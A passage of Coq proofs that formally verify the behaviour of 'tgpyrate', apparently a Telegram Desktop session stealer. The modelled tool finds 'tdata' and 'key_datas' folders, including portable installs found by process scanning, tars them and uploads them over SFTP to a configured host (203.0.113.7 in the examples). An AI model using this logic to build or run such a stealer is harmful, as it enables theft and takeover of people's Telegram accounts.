                  /\ ~ In TempClose pre).
Proof.
  intros r. subst r.
  destruct (run_kind w cfg locs) as [[e [Ho Ht]]|K].
  { rewrite Ho, Ht. split; [split|]; try discriminate. intros []. }
  pose proof (stage_events w cfg _ K TempClose) as Hev.
  assert (Hfw : In TempClose (trace (run w cfg locs)) ->
                outcome (run w cfg locs) = Ok tt).
  { intros Hin. destruct (Hev Hin)
      as [H|[H|[H|[H|[H|[[_ H]|[tar H]]]]]]]; try discriminate.
    - exact H.
    - simpl in H. repeat (destruct H as [H|H]; try discriminate).
      destruct H. }
  destruct K as [e ta He Ha Ht|ta tu tar Ha Hs Ht].
  { rewrite He in *. split; [split|]; try discriminate. exact Hfw. }
  assert (Hbw : outcome (run w cfg locs) = Ok tt ->
                exists pre,
                  trace (run w cfg locs) = TemporaryFile :: pre ++ [TempClose]
                  /\ ~ In TempClose pre).
  { intros Ho. rewrite Ho in Ht, Hs.
    exists (TarOpen (tar_mode (fresh_tar cfg))
                    (tar_compresslevel (fresh_tar cfg))
            :: ta ++ TarClose :: Seek 0 :: tu).
    split.
    - rewrite Ht. simpl. rewrite <- app_assoc. reflexivity.
    - intros Hin. simpl in Hin. destruct Hin as [Hin|Hin]; [discriminate|].
      apply in_app_or in Hin. destruct Hin as [Hin|Hin].
      + apply (archive_event_In _ _ Ha) in Hin. discriminate.
      + simpl in Hin. destruct Hin as [Hin|[Hin|Hin]]; try discriminate.
        destruct (send_file_shape w (SFTP_HOST cfg) (SFTP_PORT cfg)
                    (SFTP_USER cfg) (SFTP_PASS cfg) tar (SFTP_DEST cfg)
                    (final (run w cfg locs)))
          as [_ [[_ Htu]|[e [n [Hr _]]]]];
          rewrite Hs in *; unfold outcome, trace in *; simpl in *;
          [subst tu|discriminate].
        repeat (destruct Hin as [Hin|Hin]; try discriminate). exact Hin. }
  split; [split|]; auto.
  intros Ho. destruct (Hbw Ho) as [pre [Hpre _]]. rewrite Hpre.
  right. apply in_or_app. right. left. reflexivity.
Qed.

Lemma temp_file_closed_iff_run_returns_witness :
  In TempClose
     (trace (run (example_world [] (Some PermissionError) None None None None)
                 (example_params false None) example_locations)).
Proof.
  apply (proj1 (temp_file_closed_iff_run_returns
                  (example_world [] (Some PermissionError) None None None
                                 None)
                  (example_params false None) example_locations)).
  reflexivity.
Defined.

(** ** Runs of the archive loop *)

Lemma for_each_app {A B} (l1 l2 : list A) (body : A -> B -> M B) :
  forall b g,
    for_each (l1 ++ l2) body b g
    = bind (for_each l1 body b) (for_each l2 body) g.
Proof.
  induction l1 as [|x l1 IH]; intros b g; simpl.
  - unfold bind, ret. destruct (for_each l2 body b g) as [[r g'] t].
    reflexivity.
  - unfold bind in *.
    destruct (body x b g) as [[[b'|e] g1] t1]; [|reflexivity].
    rewrite IH.
    destruct (for_each l1 body b' g1) as [[[b''|e] g2] t2]; simpl.
    + destruct (for_each l2 body b'' g2) as [[r g3] t3].
      rewrite app_assoc. reflexivity.
    + reflexivity.
Qed.

Lemma add_loop_aborts (w : World) (fpre fpost : list Path) (f : Path)
    (e : pyexc) (tar : TarFile) (g : Globals) :
  forallb (add_survives w) fpre = true ->
  tar_add w f = Some e ->
  isinstance_PermissionError e = false ->
  for_each (fpre ++ f :: fpost) (add_entry w) tar g
  = (Raised e, g, map TarAdd (fpre ++ [f])).
Proof.
  intros Hpre Hadd He. rewrite for_each_app.
  rewrite (bind_Ok _ _ _ _ _ _ (add_loop_survives w fpre Hpre tar g)).
  simpl.
  rewrite (bind_Raised _ _ _ _ _ _
             (add_entry_raised w f _ g e Hadd He)).
  simpl. rewrite map_app. reflexivity.
Qed.

Lemma walk_aborts_in_add (w : World) (loc : Path) (fpre fpost : list Path)
    (f : Path) (e : pyexc) (tar : TarFile) (g : Globals) :
  fst (rglob w loc) = fpre ++ f :: fpost ->
  forallb (add_survives w) fpre = true ->
  tar_add w f = Some e ->
  isinstance_PermissionError e = false ->
  walk w loc tar g = (Raised e, g, Rglob loc :: map TarAdd (fpre ++ [f])).
Proof.
  intros Hfs Hpre Hadd He. unfold walk. rewrite Hfs.
  unfold bind at 1. unfold emit at 1.
  rewrite (bind_Raised _ _ _ _ _ _
             (add_loop_aborts w fpre fpost f e tar g Hpre Hadd He)).
  reflexivity.
Qed.

Lemma walk_aborts_in_rglob (w : World) (loc : Path) (e : pyexc)
    (tar : TarFile) (g : Globals) :
  forallb (add_survives w) (fst (rglob w loc)) = true ->
  snd (rglob w loc) = Some e ->
  walk w loc tar g = (Raised e, g, walk_trace w loc).
Proof.
  intros Hadds Hend. unfold walk, walk_trace. rewrite Hend.
  unfold bind, emit, raise. rewrite (add_loop_survives w _ Hadds). simpl.
  rewrite app_nil_r. reflexivity.
Qed.

Lemma archive_aborts (w : World) (lpre lpost : list Path) (loc : Path)
    (e : pyexc) (t : list event) (tar : TarFile) (g : Globals) :
  forallb (walk_survives w) lpre = true ->
  (forall tar', walk w loc tar' g = (Raised e, g, t)) ->
  for_each (lpre ++ loc :: lpost) (walk w) tar g
  = (Raised e, g, flat_map (walk_trace w) lpre ++ t).
Proof.
  intros Hpre Hwalk. rewrite for_each_app.
  rewrite (bind_Ok _ _ _ _ _ _ (walks_survive w lpre Hpre tar g)).
  simpl. rewrite (bind_Raised _ _ _ _ _ _ (Hwalk _)). reflexivity.
Qed.

Lemma tgpyrate_survives (w : World) (cfg : Params) (g : Globals) :
  forallb (walk_survives w) (installations g) = true ->
  let tar := tar_extend (fresh_tar cfg)
                        (filter (added w) (yielded w (installations g))) in
  let s := send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                     (SFTP_PASS cfg) tar (SFTP_DEST cfg) g in
  tgpyrate w cfg g
  = (outcome s, final s,
     [TemporaryFile;
      TarOpen (tar_mode (fresh_tar cfg)) (tar_compresslevel (fresh_tar cfg))]
     ++ flat_map (walk_trace w) (installations g)
     ++ TarClose :: Seek 0
     :: trace s ++ match outcome s with
                   | Ok _ => [TempClose]
                   | Raised _ => []
                   end).
Proof.
  intros Hs tar s. subst tar s. rewrite tgpyrate_run.
  cbv zeta. rewrite (walks_survive w _ Hs).
  destruct (send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
              (SFTP_PASS cfg) _ (SFTP_DEST cfg) g) as [[[[]|e] g2] tu];
    unfold outcome, final, trace; simpl.
  - reflexivity.
  - rewrite app_nil_r. reflexivity.
Qed.

Lemma tgpyrate_aborts (w : World) (cfg : Params) (g : Globals) (e : pyexc)
    (ta : list event) :
  for_each (installations g) (walk w) (fresh_tar cfg) g = (Raised e, g, ta) ->
  tgpyrate w cfg g
  = (Raised e, g,
     [TemporaryFile;
      TarOpen (tar_mode (fresh_tar cfg)) (tar_compresslevel (fresh_tar cfg))]
     ++ ta).
Proof.
  intros H. rewrite tgpyrate_run. cbv zeta. rewrite H. reflexivity.
Qed.

(** C3. In the archive loop a permission error raised by [add] for one
    entry skips that entry and the loop goes on with the next; any other
    exception raised by [add], and any exception that ends the walk, leaves
    [tgpyrate] uncaught, before the archive is closed or any upload call is
    made; and when no such exception occurs the archive handed to
    [send_file] holds exactly the yielded entries whose [add] succeeded, in
    the order of the walk. *)
Theorem permission_errors_skipped_others_abort (w : World) (cfg : Params)
    (g : Globals) :
  let head := [TemporaryFile;
               TarOpen (tar_mode (fresh_tar cfg))
                       (tar_compresslevel (fresh_tar cfg))] in
  (forall f rest tar e,
     tar_add w f = Some e ->
     isinstance_PermissionError e = true ->
     let r := for_each rest (add_entry w) tar g in
     for_each (f :: rest) (add_entry w) tar g
     = (outcome r, final r, TarAdd f :: trace r))
  /\ (forall lpre loc lpost fpre f fpost e,
        installations g = lpre ++ loc :: lpost ->
        forallb (walk_survives w) lpre = true ->
        fst (rglob w loc) = fpre ++ f :: fpost ->
        forallb (add_survives w) fpre = true ->
        tar_add w f = Some e ->
        isinstance_PermissionError e = false ->
        tgpyrate w cfg g
        = (Raised e, g,
           head ++ flat_map (walk_trace w) lpre
                ++ Rglob loc :: map TarAdd (fpre ++ [f])))
  /\ (forall lpre loc lpost e,
        installations g = lpre ++ loc :: lpost ->
        forallb (walk_survives w) lpre = true ->
        forallb (add_survives w) (fst (rglob w loc)) = true ->
        snd (rglob w loc) = Some e ->
        tgpyrate w cfg g
        = (Raised e, g,
           head ++ flat_map (walk_trace w) lpre ++ walk_trace w loc))
  /\ (forallb (walk_survives w) (installations g) = true ->
      let tar := tar_extend (fresh_tar cfg)
                   (filter (added w) (yielded w (installations g))) in
      let s := send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                         (SFTP_PASS cfg) tar (SFTP_DEST cfg) g in
      for_each (installations g) (walk w) (fresh_tar cfg) g
      = (Ok tar, g, flat_map (walk_trace w) (installations g))
      /\ (forall f, In f (tar_members tar)
                    <-> In f (yielded w (installations g))
                        /\ tar_add w f = None)
      /\ tgpyrate w cfg g
         = (outcome s, final s,
            head ++ flat_map (walk_trace w) (installations g)
                 ++ TarClose :: Seek 0
                 :: trace s ++ match outcome s with
                               | Ok _ => [TempClose]
                               | Raised _ => []
                               end)).
Proof.
  intros head. subst head. split; [|split; [|split]].
  - intros f rest tar e Hadd He r. subst r. simpl.
    rewrite (bind_Ok _ _ _ _ _ _ (add_entry_skipped w f tar g e Hadd He)).
    destruct (for_each rest (add_entry w) tar g) as [[r g'] t]. reflexivity.
  - intros lpre loc lpost fpre f fpost e Hi Hpre Hfs Hfpre Hadd He.
    apply tgpyrate_aborts. rewrite Hi.
    apply archive_aborts; [exact Hpre|].
    intros tar'. apply walk_aborts_in_add with (fpost := fpost); assumption.
  - intros lpre loc lpost e Hi Hpre Hadds Hend.
    apply tgpyrate_aborts. rewrite Hi.
    apply archive_aborts; [exact Hpre|].
    intros tar'. apply walk_aborts_in_rglob; assumption.
  - intros Hs tar s. subst tar s. split; [|split].
    + apply walks_survive. exact Hs.
    + intros f. unfold tar_extend, fresh_tar, added.
      destruct (truthy (GZIP_COMP_LEVEL cfg)); simpl; rewrite filter_In;
        destruct (tar_add w f); intuition discriminate.
    + apply tgpyrate_survives. exact Hs.
Qed.

Lemma permission_errors_skipped_others_abort_witness :
  let cfg := example_params false None in
  let g := mkGlobals example_locations [tdata] in
  let log := Path_join tdata ["log.txt"] in
  let dir := Path_join tdata ["tdata"] in
  (* a permission error on [key_datas]: skipped, the rest is archived *)
  for_each [key_datas; log]
           (add_entry (example_world [] (Some PermissionError) None None
                                     None None))
           (mkTar "w" None [dir]) g
  = (Ok (mkTar "w" None [dir; log]), g, [TarAdd key_datas; TarAdd log])
  /\ for_each [tdata]
       (walk (example_world [] (Some PermissionError) None None None None))
       (mkTar "w" None []) g
     = (Ok (mkTar "w" None [dir; log]), g,
        [Rglob tdata; TarAdd dir; TarAdd key_datas; TarAdd log])
  (* another error on [key_datas]: the run ends there *)
  /\ tgpyrate (example_world [] (Some (OtherException "OSError")) None None
                             None None) cfg g
     = (Raised (OtherException "OSError"), g,
        [TemporaryFile; TarOpen "w" None; Rglob tdata; TarAdd dir;
         TarAdd key_datas])
  (* the walk itself ends with an error: the run ends there *)
  /\ tgpyrate (example_world [] None (Some PermissionError) None None None)
              cfg g
     = (Raised PermissionError, g,
        [TemporaryFile; TarOpen "w" None; Rglob tdata; TarAdd dir;
         TarAdd key_datas; TarAdd log]).
Proof.
  intros cfg g log dir. split; [|split; [|split]].
  - exact (proj1 (permission_errors_skipped_others_abort
                    (example_world [] (Some PermissionError) None None
                                   None None) cfg g)
                 key_datas [log] (mkTar "w" None [dir]) PermissionError
                 eq_refl eq_refl).
  - exact (proj1 (proj2 (proj2 (proj2
             (permission_errors_skipped_others_abort
                (example_world [] (Some PermissionError) None None
                               None None) cfg g))) eq_refl)).
  - exact (proj1 (proj2 (permission_errors_skipped_others_abort
                           (example_world [] (Some (OtherException "OSError"))
                                          None None None None) cfg g))
                 [] tdata [] [dir] key_datas [log] (OtherException "OSError")
                 eq_refl eq_refl eq_refl eq_refl eq_refl eq_refl).
  - exact (proj1 (proj2 (proj2 (permission_errors_skipped_others_abort
                           (example_world [] None (Some PermissionError)
                                          None None None) cfg g)))
                 [] tdata [] PermissionError
                 eq_refl eq_refl eq_refl eq_refl).
Defined.

(** ** Counting walks *)

Lemma walks_app (d : Path) (t1 t2 : list event) :
  walks d (t1 ++ t2) = walks d t1 + walks d t2.
Proof.
  unfold walks. rewrite filter_app, length_app. reflexivity.
Qed.

Lemma walks_adds (d : Path) (fs : list Path) : walks d (map TarAdd fs) = 0.
Proof.
  induction fs as [|f fs IH]; [reflexivity|exact IH].
Qed.

Lemma walks_walk_traces (w : World) (d : Path) (locs : list Path) :
  walks d (flat_map (walk_trace w) locs) = count_occ Path_eq_dec locs d.
Proof.
  induction locs as [|loc locs IH]; [reflexivity|].
  change (flat_map (walk_trace w) (loc :: locs))
    with (walk_trace w loc ++ flat_map (walk_trace w) locs).
  rewrite walks_app, IH. unfold walk_trace.
  change (Rglob loc :: map TarAdd (fst (rglob w loc)))
    with ([Rglob loc] ++ map TarAdd (fst (rglob w loc))).
  rewrite walks_app, walks_adds. simpl. unfold walks, Path_eqb. simpl.
  destruct (Path_eq_dec loc d); reflexivity.
Qed.

Lemma walks_upload (w : World) (d : Path) (host : string) (port : Z)
    (user pwd : string) (file : TarFile) (dest : string) (g : Globals) :
  walks d (trace (send_file w host port user pwd file dest g)) = 0.
Proof.
  destruct (send_file_shape w host port user pwd file dest g)
    as [_ [[_ Ht]|[e [n [_ [Hn Ht]]]]]]; rewrite Ht.
  - reflexivity.
  - destruct n as [|[|[|[|[|n]]]]]; try lia; reflexivity.
Qed.

Lemma walks_cons_other (d : Path) (ev : event) (t : list event) :
  archive_event ev = false -> walks d (ev :: t) = walks d t.
Proof.
  intros H. destruct ev; try discriminate; reflexivity.
Qed.

Lemma walks_of_tgpyrate (w : World) (cfg : Params) (g : Globals) (d : Path) :
  forallb (walk_survives w) (installations g) = true ->
  walks d (trace (tgpyrate w cfg g))
  = count_occ Path_eq_dec (installations g) d.
Proof.
  intros Hs. rewrite (tgpyrate_survives w cfg g Hs). cbv zeta.
  set (s := send_file _ _ _ _ _ _ _ _).
  unfold trace at 1. cbn [snd].
  rewrite walks_app, walks_app, walks_walk_traces.
  rewrite !walks_cons_other by reflexivity.
  rewrite walks_app. unfold s. rewrite walks_upload.
  match goal with
  | |- context [match ?o with Ok _ => _ | Raised _ => _ end] => destruct o
  end; cbn; lia.
Qed.

Lemma walks_of_run (w : World) (cfg : Params) (locs found : list Path)
    (d : Path) :
  scan_result w cfg locs = Ok found ->
  forallb (walk_survives w) (filter (is_dir w) (locs ++ found)) = true ->
  walks d (trace (run w cfg locs))
  = count_occ Path_eq_dec (filter (is_dir w) (locs ++ found)) d.
Proof.
  intros Hscan Hs. rewrite run_unfold, (init_run w cfg locs found Hscan).
  destruct (filter (is_dir w) (locs ++ found)) as [|i insts] eqn:Hf.
  - reflexivity.
  - rewrite <- Hf in *. unfold trace at 1. cbn [snd app].
    apply (walks_of_tgpyrate w cfg
             (mkGlobals (locs ++ found) (filter (is_dir w) (locs ++ found)))).
    exact Hs.
Qed.

(** C10. The scan keeps duplicates.  With the scan enabled, every matching
    process answering [exe()], and [d] not in the static list, [d] is
    returned as many times as there are matching processes whose executable
    is in [d]; it occurs that many times in the candidate list; and when [d]
    is a directory it occurs that many times in the installation set, and a
    run whose archive loop is not cut short walks it that many times. *)
Theorem portable_duplicates_kept (w : World) (cfg : Params)
    (locs : list Path) (d : Path) :
  PORTABLE_DETECTION cfg = true ->
  exes_readable (pgrep w "Telegram.exe") = true ->
  ~ In d locs ->
  let n := count_occ Path_eq_dec (exe_parents (pgrep w "Telegram.exe")) d in
  let i := init w cfg (mkGlobals locs []) in
  (exists found,
     outcome (find_portable w (mkGlobals locs [])) = Ok found
     /\ count_occ Path_eq_dec found d = n)
  /\ count_occ Path_eq_dec (installation_locations (final i)) d = n
  /\ (is_dir w d = true ->
      count_occ Path_eq_dec (installations (final i)) d = n
      /\ (forallb (walk_survives w) (installations (final i)) = true ->
          walks d (trace (run w cfg locs)) = n)).
Proof.
  intros Hpd Hr Hnot n i. subst n i.
  pose proof (scan_result_readable w cfg locs Hpd Hr) as Hscan.
  set (found := filter (fun d => negb (Path_in d locs))
                       (exe_parents (pgrep w "Telegram.exe"))) in *.
  assert (Hfound : count_occ Path_eq_dec found d
                   = count_occ Path_eq_dec
                       (exe_parents (pgrep w "Telegram.exe")) d).
  { unfold found. rewrite count_occ_filter.
    destruct (Path_in d locs) eqn:Hin; [|reflexivity].
    apply Path_in_In in Hin. contradiction. }
  assert (Hcand : count_occ Path_eq_dec (locs ++ found) d
                  = count_occ Path_eq_dec
                      (exe_parents (pgrep w "Telegram.exe")) d).
  { rewrite count_occ_app, Hfound.
    rewrite (proj1 (count_occ_not_In Path_eq_dec locs d) Hnot).
    reflexivity. }
  rewrite (init_run w cfg locs found Hscan). unfold final. simpl.
  split; [|split].
  - exists found. split; [|exact Hfound].
    unfold scan_result in Hscan. rewrite Hpd in Hscan. exact Hscan.
  - exact Hcand.
  - intros Hdir.
    assert (Hinst : count_occ Path_eq_dec (filter (is_dir w) (locs ++ found)) d
                    = count_occ Path_eq_dec
                        (exe_parents (pgrep w "Telegram.exe")) d).
    { rewrite count_occ_filter, Hdir. exact Hcand. }
    split; [exact Hinst|].
    intros Hs. rewrite (walks_of_run w cfg locs found d Hscan Hs).
    exact Hinst.
Qed.

Lemma portable_duplicates_kept_witness :
  let w := example_world [telegram_process; telegram_process]
                         None None None None None in
  count_occ Path_eq_dec
    (installations (final (init w example_params_nt
                                (mkGlobals example_locations_nt []))))
    portable_dir = 2
  /\ walks portable_dir (trace (run w example_params_nt example_locations_nt))
     = 2.
Proof.
  intros w.
  assert (Hnot : ~ In portable_dir example_locations_nt).
  { intros H. vm_compute in H.
    repeat (destruct H as [H|H]; try discriminate). exact H. }
  destruct (portable_duplicates_kept w example_params_nt example_locations_nt
              portable_dir eq_refl eq_refl Hnot) as [_ [_ H]].
  destruct (H eq_refl) as [Hinst Hwalks].
  split; [exact Hinst|exact (Hwalks eq_refl)].
Defined.

Lemma portable_added_iff_not_static_witness :
  let in_appdata :=
    mkProcess (Some "Telegram.exe")
              (Ok (Path_join (APPDATA example_env_nt)
                             ["Telegram Desktop"; "telegram.exe"])) in
  let unreadable :=
    mkProcess (Some "explorer.exe") (Raised (OtherException "AccessDenied")) in
  let w := example_world [in_appdata; unreadable; telegram_process]
                         None None None None None in
  exists found,
    installation_locations (final (init w example_params_nt
                                        (mkGlobals example_locations_nt [])))
    = example_locations_nt ++ found
    /\ In portable_dir found
    /\ ~ In (Path_join (APPDATA example_env_nt) ["Telegram Desktop"]) found.
Proof.
  intros in_appdata unreadable w.
  destruct (portable_added_iff_not_static w example_params_nt
              example_locations_nt eq_refl eq_refl)
    as [found [_ [Hlocs Hiff]]].
  exists found. split; [exact Hlocs|]. split.
  - apply (Hiff telegram_process portable_exe).
    + right. right. left. reflexivity.
    + reflexivity.
    + reflexivity.
    + intros H. vm_compute in H.
      repeat (destruct H as [H|H]; try discriminate). exact H.
  - intros H.
    apply (Hiff in_appdata
                (Path_join (APPDATA example_env_nt)
                           ["Telegram Desktop"; "telegram.exe"])) in H.
    + apply H. vm_compute. tauto.
    + left. reflexivity.
    + reflexivity.
    + reflexivity.
Defined.

Lemma tar_mode_follows_level_witness :
  In (TarOpen "w" None)
     (trace (tgpyrate (example_world [] None None None None None)
                      (example_params false None)
                      (mkGlobals example_locations [tdata])))
  /\ In (TarOpen "w:gz" (Some 6%Z))
        (trace (tgpyrate (example_world [] None None None None None)
                         (example_params false (Some 6%Z))
                         (mkGlobals example_locations [tdata]))).
Proof.
  split.
  - apply (proj1 (tar_mode_follows_level
                    (example_world [] None None None None None)
                    (example_params false None)
                    (mkGlobals example_locations [tdata]))).
    left. reflexivity.
  - apply (proj2 (tar_mode_follows_level
                    (example_world [] None None None None None)
                    (example_params false (Some 6%Z))
                    (mkGlobals example_locations [tdata])) 6%Z).
    + lia.
    + reflexivity.
Defined.

Lemma installations_exactly_existing_witness :
  installations
    (final (init (example_world [] None None None None None)
                 (example_params false None)
                 (mkGlobals example_locations [])))
  = [tdata].
Proof.
  refine (proj1 (proj2 (proj2
            (installations_exactly_existing
               (example_world [] None None None None None)
               (example_params false None) example_locations []
               eq_refl _)))).
  exists tdata. split; [left; reflexivity|reflexivity].
Defined.

Lemma no_installation_exits_1_witness :
  outcome (run (example_world [] None None None None None)
               example_params_nt example_locations_nt)
  = Raised (SystemExit 1)
  /\ trace (run (example_world [] None None None None None)
                example_params_nt example_locations_nt) = [].
Proof.
  assert (Hnone : forall p, In p (example_locations_nt ++ []) ->
                            is_dir (example_world [] None None None None None)
                                   p = false).
  { intros p Hp. vm_compute in Hp.
    repeat (destruct Hp as [Hp|Hp]; [subst p; reflexivity|]).
    destruct Hp. }
  destruct (no_installation_exits_1
              (example_world [] None None None None None)
              example_params_nt example_locations_nt [] eq_refl Hnone)
    as [Ho [_ [_ [Ht _]]]].
  split; [exact Ho|exact Ht].
Defined.

Example run_sample_nt :
  run (example_world [telegram_process; telegram_process]
                     None None None None None)
      example_params_nt example_locations_nt
  = (Ok tt,
     mkGlobals (example_locations_nt ++ [portable_dir; portable_dir])
               [portable_dir; portable_dir],
     [TemporaryFile; TarOpen "w" None; Rglob portable_dir;
      Rglob portable_dir; TarClose; Seek 0;
      Transport "203.0.113.7" 22; Connect "user" "secret"; FromTransport;
      Putfo (mkTar "w" None []) (import_SFTP_DEST example_env_nt);
      SftpClose; TransportClose; TempClose]).
Proof. vm_compute. reflexivity. Qed.

(** ** Further properties: the process scan *)

Lemma scan_loop (ps : list Process) :
  forall acc g,
    for_each ps find_portable_body acc g
    = (match first_unreadable ps with
       | Some e => Raised e
       | None =>
           Ok (acc ++ filter (fun d =>
                                negb (Path_in d (installation_locations g)))
                             (exe_parents ps))
       end, g, []).
Proof.
  induction ps as [|p ps IH]; intros acc g; simpl.
  - rewrite app_nil_r. reflexivity.
  - unfold find_portable_body at 1.
    destruct (p_exe p) as [exe|e]; [|reflexivity].
    unfold bind, get, ret. simpl.
    destruct (Path_in (parent exe) (installation_locations g)); simpl;
      rewrite IH; destruct (first_unreadable ps); simpl; try reflexivity.
    rewrite <- app_assoc. reflexivity.
Qed.

Lemma first_unreadable_In (ps : list Process) (e : pyexc) :
  first_unreadable ps = Some e -> exists p, In p ps /\ p_exe p = Raised e.
Proof.
  induction ps as [|p ps IH]; simpl; [discriminate|].
  destruct (p_exe p) as [exe|e'] eqn:Hexe.
  - intros H. destruct (IH H) as [q [Hq Hr]]. exists q. auto.
  - intros H. inversion H; subst e'. exists p. auto.
Qed.

Lemma find_portable_run (w : World) (g : Globals) :
  find_portable w g
  = (match first_unreadable (pgrep w "Telegram.exe") with
     | Some e => Raised e
     | None =>
         Ok (filter (fun d => negb (Path_in d (installation_locations g)))
                    (exe_parents (pgrep w "Telegram.exe")))
     end, g, []).
Proof.
  unfold find_portable. rewrite scan_loop. reflexivity.
Qed.

(** X1. [pgrep] returns exactly the processes of the iteration whose name is
    the one asked for: a process of another name, or one whose name psutil
    could not read, is never returned, and no matching process is left
    out. *)
Theorem pgrep_exact (w : World) (name : string) :
  (forall p, In p (pgrep w name)
             <-> In p (process_iter w) /\ p_name p = Some name)
  /\ (forall p, In p (pgrep w name) -> p_name p <> None)
  /\ List.length (pgrep w name) <= List.length (process_iter w)
  /\ ((forall p, In p (process_iter w) -> p_name p = Some name) ->
      pgrep w name = process_iter w).
Proof.
  split; [|split; [|split]].
  - intros p. apply pgrep_In.
  - intros p Hp. apply pgrep_In in Hp. destruct Hp as [_ Hn].
    rewrite Hn. discriminate.
  - unfold pgrep. apply filter_length_le.
  - intros Hall. unfold pgrep.
    induction (process_iter w) as [|p ps IH]; [reflexivity|].
    simpl. rewrite (Hall p (or_introl eq_refl)), String.eqb_refl.
    f_equal. apply IH. intros q Hq. apply Hall. right. exact Hq.
Qed.

Lemma pgrep_exact_witness :
  pgrep (example_world [telegram_process; telegram_process]
                       None None None None None) "Telegram.exe"
  = [telegram_process; telegram_process].
Proof.
  apply (proj2 (proj2 (proj2 (pgrep_exact
           (example_world [telegram_process; telegram_process]
                          None None None None None) "Telegram.exe")))).
  intros p Hp. simpl in Hp.
  destruct Hp as [<-|[<-|[]]]; reflexivity.
Defined.

(** X2. The scan raises exactly when [exe()] raises for some process named
    [Telegram.exe], and then it raises the exception of the first of them;
    otherwise it returns the directories of the executables that are not in
    the candidate list, in the order of the processes.  It makes no other
    call and changes no module-level list. *)
Theorem scan_raises_first_unreadable (w : World) (g : Globals) :
  find_portable w g
  = (match first_unreadable (pgrep w "Telegram.exe") with
     | Some e => Raised e
     | None =>
         Ok (filter (fun d => negb (Path_in d (installation_locations g)))
                    (exe_parents (pgrep w "Telegram.exe")))
     end, g, [])
  /\ (forall e, first_unreadable (pgrep w "Telegram.exe") = Some e ->
                exists p, In p (pgrep w "Telegram.exe")
                          /\ p_exe p = Raised e)
  /\ (forall p exe, In p (pgrep w "Telegram.exe") -> p_exe p = Ok exe ->
                    In (parent exe) (exe_parents (pgrep w "Telegram.exe"))).
Proof.
  split; [apply find_portable_run|].
  split.
  - apply first_unreadable_In.
  - intros p exe Hp Hexe. apply exe_parents_In with (p := p); assumption.
Qed.

(** ** Further properties: the locator *)

Lemma init_gen (w : World) (cfg : Params) (locs insts : list Path) :
  let rest := fun cands =>
    (match insts ++ filter (is_dir w) cands with
     | [] => Raised (SystemExit 1)
     | _ => Ok tt
     end,
     mkGlobals cands (insts ++ filter (is_dir w) cands),
     @nil event) in
  init w cfg (mkGlobals locs insts)
  = if PORTABLE_DETECTION cfg
    then match first_unreadable (pgrep w "Telegram.exe") with
         | Some e => (Raised e, mkGlobals locs insts, [])
         | None =>
             rest (locs ++ filter (fun d => negb (Path_in d locs))
                                  (exe_parents (pgrep w "Telegram.exe")))
         end
    else rest locs.
Proof.
  intros rest. subst rest. unfold init.
  destruct (PORTABLE_DETECTION cfg).
  - unfold bind, get, put. rewrite find_portable_run.
    destruct (first_unreadable (pgrep w "Telegram.exe")); [reflexivity|].
    simpl. rewrite init_loop. simpl.
    match goal with
    | |- context [match ?l with [] => _ | _ :: _ => _ end] => destruct l
    end; reflexivity.
  - unfold bind, get, put. simpl. rewrite init_loop. simpl.
    destruct (insts ++ filter (is_dir w) locs); reflexivity.
Qed.

(** X3. A failure of the scan is not handled: when the scan is enabled and
    [exe()] raises for a process named [Telegram.exe], [init] ends with the
    exception of the first such process before it looks at any directory,
    both module-level lists are as they were, and the run ends with that
    exception having called nothing. *)
Theorem scan_failure_aborts_init (w : World) (cfg : Params)
    (locs insts : list Path) (e : pyexc) :
  PORTABLE_DETECTION cfg = true ->
  first_unreadable (pgrep w "Telegram.exe") = Some e ->
  init w cfg (mkGlobals locs insts) = (Raised e, mkGlobals locs insts, [])
  /\ run w cfg locs = (Raised e, mkGlobals locs [], []).
Proof.
  intros Hpd He.
  assert (Hinit : forall i, init w cfg (mkGlobals locs i)
                            = (Raised e, mkGlobals locs i, [])).
  { intros i. rewrite init_gen. cbv zeta. rewrite Hpd, He. reflexivity. }
  split; [apply Hinit|].
  unfold run, main. apply bind_Raised. apply Hinit.
Qed.

Lemma scan_failure_aborts_init_witness :
  run (example_world
         [telegram_process;
          mkProcess (Some "Telegram.exe")
                    (Raised (OtherException "AccessDenied"))]
         None None None None None)
      example_params_nt example_locations_nt
  = (Raised (OtherException "AccessDenied"),
     mkGlobals example_locations_nt [], []).
Proof.
  exact (proj2 (scan_failure_aborts_init
                  (example_world
                     [telegram_process;
                      mkProcess (Some "Telegram.exe")
                                (Raised (OtherException "AccessDenied"))]
                     None None None None None)
                  example_params_nt example_locations_nt []
                  (OtherException "AccessDenied") eq_refl eq_refl)).
Defined.

(** X4. The scan is enabled only on Windows with psutil importable.
    Anywhere else [init] never consults the processes: the candidate list
    stays the static list, the installation set gains the static candidates
    that are directories, and [init] returns, or exits with 1 when the
    installation set is empty, whatever the processes are. *)
Theorem scan_disabled_off_windows (env : Env) (host : string) (port : Z)
    (user pwd : string) (level : option Z) (w : World)
    (locs insts : list Path) :
  let cfg := import_params env host port user pwd level in
  (PORTABLE_DETECTION cfg = true
   <-> os_name env = "nt" /\ psutil_importable env = true)
  /\ (PORTABLE_DETECTION cfg = false ->
      init w cfg (mkGlobals locs insts)
      = (match insts ++ filter (is_dir w) locs with
         | [] => Raised (SystemExit 1)
         | _ => Ok tt
         end,
         mkGlobals locs (insts ++ filter (is_dir w) locs), [])).
Proof.
  intros cfg. subst cfg. split.
  - simpl. unfold import_PORTABLE_DETECTION.
    destruct (String.eqb (os_name env) "nt") eqn:Hos.
    + apply String.eqb_eq in Hos. tauto.
    + apply String.eqb_neq in Hos. split; [discriminate|tauto].
  - intros Hpd. rewrite init_gen. cbv zeta. rewrite Hpd. reflexivity.
Qed.

Lemma scan_disabled_off_windows_witness :
  init (example_world
          [mkProcess (Some "Telegram.exe")
                     (Raised (OtherException "AccessDenied"))]
          None None None None None)
       (import_params example_env "203.0.113.7" 22 "user" "secret" None)
       (mkGlobals example_locations [])
  = (Ok tt, mkGlobals example_locations [tdata], []).
Proof.
  exact (proj2 (scan_disabled_off_windows example_env "203.0.113.7" 22
                  "user" "secret" None
                  (example_world
                     [mkProcess (Some "Telegram.exe")
                                (Raised (OtherException "AccessDenied"))]
                     None None None None None)
                  example_locations [])
               eq_refl).
Defined.

(** X5. [init] only appends.  Whatever the machine and however [init]
    ends, the candidate list afterwards is the one before followed by
    directories of executables of matching processes that were not in it,
    and the installation set afterwards is the one before followed by
    candidates that are directories. *)
Theorem init_only_appends (w : World) (cfg : Params)
    (locs insts : list Path) :
